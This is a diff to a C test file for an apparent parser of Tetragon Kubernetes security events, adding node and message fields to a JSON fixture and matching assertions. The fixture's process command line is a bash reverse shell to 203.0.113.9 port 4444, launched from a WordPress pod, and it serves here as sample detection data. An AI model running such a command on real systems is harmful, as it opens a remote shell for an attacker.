@@ -35,12 +35,14 @@ static const char exec_pod_json[] =
     "{'ts':'2024-03-12T14:05:09.481220114Z','ts_prec':9,'time_text':"
     "'2024-03-12T14:05:09.481220114Z','category':'process','action':'exec','provider':"
     "'tetragon','correlation_id':'bm9kZS03OjEyMzQ1Njc4OTA6MzMzMw==','host':'node-7',"
-    "'k8s_cluster':'prod-eu','k8s_namespace':'blog','k8s_pod':'wordpress-6d9c-abcde',"
+    "'k8s_cluster':'prod-eu','k8s_namespace':'blog','k8s_pod':'wordpress-6d9c-abcde','k8s_node':"
+    "'node-7',"
     "'container_id':'9f2c3b4a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708',"
     "'container_name':'wordpress','container_image':'docker.io/library/wordpress:6.4','pid':3333,"
     "'ppid':3300,'process_exe':'/bin/bash','process_cmdline':'/bin/bash -c ^bash -i >& "
     "/dev/tcp/203.0.113.9/4444 0>&1^','process_uid':33,'process_cwd':'/var/www/html',"
-    "'parent_exe':'/usr/sbin/apache2','format':'tetragon','offset':0,'line':1}\n";
+    "'parent_exe':'/usr/sbin/apache2','message':'flags=execve clone','format':'tetragon','offset':"
+    "0,'line':1}\n";
 
 /* formats.md §8.3 example: curl connecting out (uid 0 is written; proto3
  * encoders may omit it) */
@@ -131,6 +133,8 @@ static void test_fields(void)
     CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_POD), "p");
     CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, -1), 0); /* omitted zero */
     CHECK_INT(ty_event_int(&h.last, TY_F_TS_PREC, 0), 1);
+    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_NODE), "n2");
+    CHECK(!ty_event_has(&h.last, TY_F_MESSAGE)); /* no flags */
     CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
     h_close(&h);
 }
